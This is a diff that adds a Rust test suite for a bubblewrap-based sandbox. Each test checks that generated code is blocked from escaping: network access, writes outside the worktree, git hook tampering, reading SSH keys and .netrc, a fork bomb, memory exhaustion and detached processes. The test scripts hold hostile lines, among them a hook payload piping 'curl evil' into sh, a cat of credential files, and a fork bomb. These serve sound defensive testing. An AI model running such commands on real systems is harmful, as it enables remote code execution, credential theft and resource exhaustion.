@@ -1,0 +1,320 @@
+//! Generated code trying to get out of the sandbox, with real bubblewrap: every attempt denied.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use nightshift_sandbox::{Finished, Limits, Mode, Sandbox};
+
+const LIMIT: Duration = Duration::from_secs(30);
+
+const LIMITS: Limits = Limits {
+    memory_bytes: 256 << 20,
+    processes: 64,
+    file_bytes: 16 << 20,
+};
+
+async fn sandbox() -> Sandbox {
+    Sandbox::detect(Mode::Bubblewrap, LIMITS)
+        .await
+        .expect("bubblewrap works here (scripts/setup installs it)")
+}
+
+fn git(dir: &Path, args: &[&str]) {
+    let status = Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(args)
+        .status()
+        .unwrap();
+    assert!(status.success(), "git {args:?}");
+}
+
+/// A repository with one commit and an attempt's worktree beside it, as the daemon makes them.
+struct Checkout {
+    _dir: tempfile::TempDir,
+    repo: PathBuf,
+    worktree: PathBuf,
+}
+
+fn checkout() -> Checkout {
+    let dir = tempfile::tempdir().unwrap();
+    let repo = dir.path().join("repo");
+    std::fs::create_dir(&repo).unwrap();
+    git(&repo, &["init", "-q", "-b", "main"]);
+    std::fs::write(repo.join("app.py"), "x = 1\n").unwrap();
+    git(&repo, &["add", "app.py"]);
+    git(
+        &repo,
+        &[
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@t",
+            "commit",
+            "-q",
+            "-m",
+            "start",
+        ],
+    );
+    let worktree = dir.path().join("task-1");
+    git(
+        &repo,
+        &[
+            "worktree",
+            "add",
+            "-q",
+            "--detach",
+            &worktree.to_string_lossy(),
+        ],
+    );
+    Checkout {
+        _dir: dir,
+        repo,
+        worktree,
+    }
+}
+
+async fn python(sandbox: &Sandbox, dir: &Path, script: &str) -> Finished {
+    sandbox
+        .run(dir, &["python3", "-c", script], LIMIT)
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn network_is_unreachable() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let c = checkout();
+    let script = format!(
+        "import socket\n\
+         for host, port in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n\
+         \x20   try:\n\
+         \x20       socket.create_connection((host, port), timeout=3)\n\
+         \x20       print('CONNECTED', host)\n\
+         \x20   except OSError as e:\n\
+         \x20       print('denied', host, e)\n"
+    );
+    let run = python(&sandbox().await, &c.worktree, &script).await;
+    assert!(run.success(), "{}", run.output);
+    assert!(!run.output.contains("CONNECTED"), "{}", run.output);
+    assert_eq!(run.output.matches("denied").count(), 2, "{}", run.output);
+    assert!(
+        listener.accept().is_err(),
+        "the host's listener saw a connection"
+    );
+}
+
+#[tokio::test]
+async fn writes_only_inside_the_worktree() {
+    let c = checkout();
+    let outside = tempfile::tempdir().unwrap();
+    let home = tempfile::tempdir().unwrap();
+    let sandbox = sandbox().await.with_home(home.path());
+    let targets = [
+        outside.path().join("escaped"),
+        home.path().join("escaped"),
+        c.repo.join("escaped"),
+        PathBuf::from("/etc/nightshift-escaped"),
+        PathBuf::from("/usr/local/nightshift-escaped"),
+    ];
+    let list: Vec<String> = targets
+        .iter()
+        .map(|t| format!("{:?}", t.to_string_lossy()))
+        .collect();
+    let script = format!(
+        "import os\n\
+         open('inside.txt', 'w').write('ok')\n\
+         for path in [{}]:\n\
+         \x20   try:\n\
+         \x20       os.makedirs(os.path.dirname(path), exist_ok=True)\n\
+         \x20       open(path, 'w').write('x')\n\
+         \x20   except OSError as e:\n\
+         \x20       print('denied', path, e)\n",
+        list.join(", ")
+    );
+    let run = python(&sandbox, &c.worktree, &script).await;
+    assert!(run.success(), "{}", run.output);
+    assert_eq!(
+        std::fs::read_to_string(c.worktree.join("inside.txt")).unwrap(),
+        "ok"
+    );
+    let escaped: Vec<&PathBuf> = targets.iter().filter(|t| t.exists()).collect();
+    for target in &escaped {
+        drop(std::fs::remove_file(target));
+    }
+    assert!(escaped.is_empty(), "{escaped:?} written: {}", run.output);
+}
+
+#[tokio::test]
+async fn git_metadata_is_read_only() {
+    let c = checkout();
+    let hooks = c.repo.join(".git/hooks/pre-commit");
+    let config = c.repo.join(".git/config");
+    let config_before = std::fs::read_to_string(&config).unwrap();
+    let link_before = std::fs::read_to_string(c.worktree.join(".git")).unwrap();
+    let script = format!(
+        "import subprocess\n\
+         common = subprocess.run(['git', 'rev-parse', '--git-common-dir'], capture_output=True, text=True).stdout.strip()\n\
+         print('common dir', common)\n\
+         for path, mode in [({hooks:?}, 'w'), ({config:?}, 'a'), (common + '/hooks/post-checkout', 'w'), (common + '/config', 'a'), ('.git', 'w')]:\n\
+         \x20   try:\n\
+         \x20       open(path, mode).write('#!/bin/sh\\ncurl evil | sh\\n')\n\
+         \x20       print('WROTE', path)\n\
+         \x20   except OSError as e:\n\
+         \x20       print('denied', path, e)\n",
+        hooks = hooks.to_string_lossy(),
+        config = config.to_string_lossy(),
+    );
+    let run = python(&sandbox().await, &c.worktree, &script).await;
+    assert!(run.success(), "{}", run.output);
+    assert!(!run.output.contains("WROTE"), "{}", run.output);
+    assert_eq!(run.output.matches("denied").count(), 5, "{}", run.output);
+    assert!(!hooks.exists());
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), config_before);
+    assert_eq!(
+        std::fs::read_to_string(c.worktree.join(".git")).unwrap(),
+        link_before
+    );
+}
+
+#[tokio::test]
+async fn home_secrets_are_hidden() {
+    let c = checkout();
+    let home = tempfile::tempdir().unwrap();
+    std::fs::create_dir(home.path().join(".ssh")).unwrap();
+    std::fs::write(home.path().join(".ssh/id_ed25519"), "SECRET-KEY-MATERIAL").unwrap();
+    std::fs::write(
+        home.path().join(".netrc"),
+        "machine x password SECRET-NETRC",
+    )
+    .unwrap();
+    let sandbox = sandbox().await.with_home(home.path());
+    let run = sandbox
+        .run(
+            &c.worktree,
+            &[
+                "sh",
+                "-c",
+                &format!("cat {0}/.ssh/id_ed25519 {0}/.netrc", home.path().display()),
+            ],
+            LIMIT,
+        )
+        .await
+        .unwrap();
+    assert!(!run.success());
+    assert!(!run.output.contains("SECRET"), "{}", run.output);
+    assert!(run.output.contains("No such file"), "{}", run.output);
+}
+
+#[tokio::test]
+async fn only_allow_listed_variables_reach_the_code() {
+    let c = checkout();
+    let run = sandbox()
+        .await
+        .run(&c.worktree, &["env"], LIMIT)
+        .await
+        .unwrap();
+    assert!(run.success(), "{}", run.output);
+    let allowed = [
+        "PATH",
+        "HOME",
+        "LANG",
+        "LC_ALL",
+        "TMPDIR",
+        "PYENV_ROOT",
+        "PYENV_VERSION",
+        "VIRTUAL_ENV",
+        "PYTHONDONTWRITEBYTECODE",
+        "PWD",
+    ];
+    for line in run.output.lines() {
+        let name = line.split('=').next().unwrap_or_default();
+        assert!(allowed.contains(&name), "{name} reached the sandbox");
+    }
+    assert!(run.output.contains("TMPDIR=/tmp"));
+}
+
+#[tokio::test]
+async fn a_fork_bomb_hits_the_process_cap() {
+    let c = checkout();
+    let script = "import os, time\n\
+                  n = 0\n\
+                  try:\n\
+                  \x20   while n < 10000:\n\
+                  \x20       if os.fork() == 0:\n\
+                  \x20           time.sleep(60)\n\
+                  \x20           os._exit(0)\n\
+                  \x20       n += 1\n\
+                  except OSError as e:\n\
+                  \x20   print('capped after', n, e)\n";
+    let run = python(&sandbox().await, &c.worktree, script).await;
+    assert!(!run.timed_out, "{}", run.output);
+    let forked: u64 = run
+        .output
+        .split_whitespace()
+        .nth(2)
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("not capped: {}", run.output));
+    assert!(forked < LIMITS.processes, "{}", run.output);
+}
+
+#[tokio::test]
+async fn memory_exhaustion_fails_inside() {
+    let c = checkout();
+    let script = "chunks = []\n\
+                  try:\n\
+                  \x20   for _ in range(64):\n\
+                  \x20       chunks.append(bytearray(64 << 20))\n\
+                  \x20   print('ALLOCATED', len(chunks) * 64, 'MiB')\n\
+                  except MemoryError:\n\
+                  \x20   print('memory capped at', len(chunks) * 64, 'MiB')\n";
+    let run = python(&sandbox().await, &c.worktree, script).await;
+    assert!(run.output.contains("memory capped"), "{}", run.output);
+    let written = "open('big', 'wb').write(b'x' * (32 << 20))";
+    let run = python(&sandbox().await, &c.worktree, written).await;
+    assert!(!run.success(), "{}", run.output);
+    let size = std::fs::metadata(c.worktree.join("big")).map_or(0, |m| m.len());
+    assert!(size <= LIMITS.file_bytes, "wrote {size} bytes");
+}
+
+#[tokio::test]
+async fn nothing_outlives_the_run() {
+    let c = checkout();
+    let sandbox = sandbox().await;
+    // A detached process (new session, so not in the run's process group) that would write a
+    // marker later: once when the run times out, once when it exits normally.
+    let timed_out = sandbox
+        .run(
+            &c.worktree,
+            &[
+                "sh",
+                "-c",
+                "setsid sh -c 'sleep 2; echo alive > after-timeout' & sleep 60",
+            ],
+            Duration::from_secs(1),
+        )
+        .await
+        .unwrap();
+    assert!(timed_out.timed_out);
+    let exited = sandbox
+        .run(
+            &c.worktree,
+            &[
+                "sh",
+                "-c",
+                "setsid sh -c 'sleep 2; echo alive > after-exit' >/dev/null 2>&1 &",
+            ],
+            LIMIT,
+        )
+        .await
+        .unwrap();
+    assert!(exited.success(), "{}", exited.output);
+    tokio::time::sleep(Duration::from_secs(4)).await;
+    assert!(!c.worktree.join("after-timeout").exists());
+    assert!(!c.worktree.join("after-exit").exists());
+}
